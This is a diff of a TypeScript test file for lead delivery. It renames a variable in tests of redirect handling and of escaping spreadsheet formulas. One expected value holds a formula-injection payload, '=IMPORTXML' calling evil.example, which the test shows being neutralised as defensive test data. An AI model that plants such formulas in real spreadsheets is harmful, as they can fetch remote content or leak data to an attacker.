@@ -34,9 +34,9 @@ test.each<[string, number, string, string, string]>([
 })
 
 test('the redirect is followed without the lead, and its answer counts', async () => {
-  const seen: string[] = []
+  const requests: string[] = []
   const answer = await serve(async (request, response) => {
-    seen.push(`${request.method} ${request.url} ${await bodyOf(request)}`)
+    requests.push(`${request.method} ${request.url} ${await bodyOf(request)}`)
     response.writeHead(request.url === '/fine' ? 200 : 500).end()
   })
   const script = (to: string) =>
@@ -44,7 +44,7 @@ test('the redirect is followed without the lead, and its answer counts', async (
 
   expect(await post(await script('/fine'))).toEqual({ ending: 'delivered' })
   expect(await post(await script('/broken'))).toEqual({ ending: 'unclear', why: 'it answered 500' })
-  expect(seen).toEqual(['GET /fine ', 'GET /broken '])
+  expect(requests).toEqual(['GET /fine ', 'GET /broken '])
 })
 
 test.each([307, 308])('a redirect that would resend the lead (%i) is not followed', async (status) => {
@@ -86,9 +86,9 @@ test('redirect loops end', async () => {
 })
 
 test('the id is added to the operator’s query string, and formulas are escaped', async () => {
-  const seen: string[] = []
+  const requests: string[] = []
   const script = await serve(async (request, response) => {
-    seen.push(`${request.method} ${request.url} ${await bodyOf(request)}`)
+    requests.push(`${request.method} ${request.url} ${await bodyOf(request)}`)
     response.end('ok')
   })
 
@@ -99,7 +99,7 @@ test('the id is added to the operator’s query string, and formulas are escaped
     new AbortController().signal,
   )
 
-  expect(seen).toEqual([
+  expect(requests).toEqual([
     `POST /exec?token=a+b&id=0199-id {"name":"'=IMPORTXML(\\"https://evil.example\\")","email":"amara@example.org","phone":"+919876543210"}`,
   ])
 })
